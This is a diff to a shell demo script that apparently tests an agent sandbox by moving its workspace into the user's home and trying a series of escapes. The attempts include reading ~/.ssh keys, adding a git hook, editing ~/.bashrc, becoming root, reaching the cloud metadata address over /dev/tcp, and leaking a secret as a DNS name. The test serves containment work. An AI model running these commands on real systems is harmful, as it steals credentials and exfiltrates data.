@@ -28,6 +28,7 @@ base=$(mktemp -d /tmp/cordon-demo.XXXXXX)
 chmod 755 "$base"
 daemon=
 made_key=
+workspace=
 
 clean() {
   status=$?
@@ -39,6 +40,7 @@ clean() {
     wait "$daemon" 2>/dev/null || true
   fi
   [ -z "$made_key" ] || rm -rf -- "$made_key"
+  [ -z "$workspace" ] || rm -rf -- "$workspace"
   [ -z "$made_user" ] || userdel --remove "$made_user" >/dev/null 2>&1 || true
   rm -rf -- "$base"
   exit "$status"
@@ -61,9 +63,8 @@ show doctor
 
 # ---- a workspace, and something that is none of the agent's business
 say "making a workspace with a small program and a git repository"
-workspace=$base/workspace
-install -d -o "$user" -g "$(id -gn "$user")" "$workspace"
 as_user() { setpriv --reuid "$user" --regid "$(id -gn "$user")" --init-groups env HOME="$home" USER="$user" "$@"; }
+workspace=$(as_user mktemp -d "$home/cordon-demo.XXXXXX")
 as_user sh -c 'cd "$1" && printf "#include <stdio.h>\nint main(void) { puts(\"built and run\"); return 0; }\n" > hello.c &&
   printf "# Demo\n" > README.md && git init -q . && git config user.name demo && git config user.email demo@localhost &&
   git add . && git commit -q -m first' sh "$workspace"
@@ -97,7 +98,7 @@ try "read the user's ssh keys" sh -c 'cat ~/.ssh/*'
 try "write outside the workspace" sh -c 'echo owned > ~/cordon-demo-was-here'
 try "install a git hook" sh -c 'printf "#!/bin/sh\nid\n" > .git/hooks/pre-commit'
 try "append to the shell's start-up file" sh -c 'echo "echo owned" >> ~/.bashrc'
-try "become root" sudo -n true
+try "become root" su root -c id
 try "reach the cloud's metadata address" bash -c 'exec 3<>/dev/tcp/169.254.169.254/80'
 try "send a secret out as a DNS name" getent hosts c2VjcmV0LWtleQ.exfiltrate.invalid
 exit 0
